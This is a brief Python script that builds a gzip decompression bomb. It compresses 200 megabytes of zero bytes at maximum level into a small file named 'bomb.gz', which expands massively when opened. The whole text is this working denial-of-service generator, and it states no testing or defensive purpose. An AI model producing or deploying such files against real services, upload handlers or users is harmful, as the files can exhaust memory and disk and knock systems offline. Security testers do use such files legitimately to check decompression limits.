import zlib
z = zlib.compressobj(9, zlib.DEFLATED, 31)
with open('bomb.gz', 'wb') as f:
    for _ in range(200):
        f.write(z.compress(bytes(1_000_000)))
    f.write(z.flush())
